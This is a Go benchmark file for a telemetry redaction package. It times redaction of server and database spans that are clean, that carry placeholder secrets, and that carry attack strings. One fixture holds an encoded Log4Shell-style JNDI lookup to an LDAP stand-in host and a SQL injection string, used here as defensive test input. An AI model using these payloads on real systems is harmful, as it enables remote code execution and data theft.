package redact

import (
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/evidentsec/evident/internal/telemetry"
)

// BenchmarkSpans measures redaction per span, with the default rules and
// turned off, on clean server and database spans (the common case: a
// scan, no allocation), on spans carrying secrets, and on attacks.
func BenchmarkSpans(b *testing.B) {
	server := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /products/{id}", Attrs: telemetry.Attrs{
		HTTPMethod: "GET", HTTPRoute: "/products/{id}", URLPath: "/products/42", URLQuery: "currency=EUR&ref=home_page",
		UserAgent:      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
		RequestHeaders: map[string]string{"accept": "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "x-request-id": "5d1f6c2e-3a8b-4f5e-9c1d-7e2b4a6f8c0d"},
	}}
	db := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindClient, Name: "SELECT", Attrs: telemetry.Attrs{
		DBSystem: "postgresql", DBQueryText: "SELECT id, name, price FROM products WHERE id = $1 AND deleted_at IS NULL"}}
	secret := server
	secret.Attrs.URLQuery = "access_token=SECRET123&currency=EUR&email=bob%40example.com"
	secret.Attrs.RequestHeaders = map[string]string{"authorization": "Bearer abc.def.ghi", "cookie": "sid=1", "accept": "*/*"}
	secretDB := db
	secretDB.Attrs.DBQueryText = "SELECT * FROM users WHERE email = 'bob@example.com' AND password = 'hunter2' LIMIT 1"
	attack := server
	attack.Attrs.URLQuery = "q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx.example%2Fa%7D&id=1%27%20OR%20%271%27%3D%271"
	// 2,700 encoded "@" in a row, all local-part characters: the e-mail
	// rule read back to the start from each until it kept where the run
	// starts (16 ms a value of 8 KB).
	ats := server
	ats.Attrs.URLQuery = "q=" + strings.Repeat("%40", 2700)

	on, err := New(DefaultConfig())
	if err != nil {
		b.Fatal(err)
	}
	off, err := New(Config{})
	if err != nil {
		b.Fatal(err)
	}
	for _, r := range []struct {
		name string
		r    *Redactor
	}{{"default", on}, {"off", off}} {
		for _, bc := range []struct {
			name string
			sp   telemetry.Span
		}{{"clean-server", server}, {"clean-db", db}, {"secret-server", secret}, {"secret-db", secretDB}, {"attack-server", attack}, {"encoded-at-8k", ats}} {
			b.Run(r.name+"/"+bc.name, func(b *testing.B) {
				batch := []telemetry.Span{bc.sp}
				b.ReportAllocs()
				cpu0 := cpuTime()
				for b.Loop() {
					r.r.Spans(batch)
				}
				// CPU time, not wall time: on a shared machine the wall
				// clock measures the neighbours too.
				cpu := (cpuTime() - cpu0).Seconds()
				b.ReportMetric(cpu*1e9/float64(b.N), "cpu-ns/span")
				b.ReportMetric(float64(b.N)/cpu, "spans/cpu-s")
			})
		}
	}
}

// BenchmarkTraceRequest measures the redaction of a 1000-span request
// as received (telemetry.RedactTraceRequest), with the default rules, of
// clean server and database spans, which it leaves as they are.
func BenchmarkTraceRequest(b *testing.B) {
	r, err := New(DefaultConfig())
	if err != nil {
		b.Fatal(err)
	}
	spans := make([]telemetry.Span, 1000)
	for i := range spans {
		sp := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /products/{id}",
			TraceID: [16]byte{1, byte(i)}, SpanID: [8]byte{2, byte(i), byte(i >> 8)}, Attrs: telemetry.Attrs{
				HTTPMethod: "GET", HTTPRoute: "/products/{id}", URLPath: "/products/42", URLQuery: "currency=EUR&ref=home_page",
				UserAgent:  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
				StatusCode: 200, ClientAddress: "203.0.113.7"}}
		if i%2 == 1 {
			sp.Kind, sp.Name = telemetry.SpanKindClient, "SELECT"
			sp.Attrs = telemetry.Attrs{DBSystem: "postgresql", DBNamespace: "shop",
				DBQueryText: "SELECT id, name, price FROM products WHERE id = $1 AND deleted_at IS NULL"}
		}
		spans[i] = sp
	}
	req, err := telemetry.AppendTraceRequest(nil, spans)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	cpu0 := cpuTime()
	for b.Loop() {
		if _, changed, err := telemetry.RedactTraceRequest(req, r); err != nil || changed {
			b.Fatal(changed, err)
		}
	}
	cpu := (cpuTime() - cpu0).Seconds()
	b.ReportMetric(cpu*1e9/float64(b.N)/1000, "cpu-ns/span")
	b.ReportMetric(float64(b.N)*1000/cpu, "spans/cpu-s")
}

func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
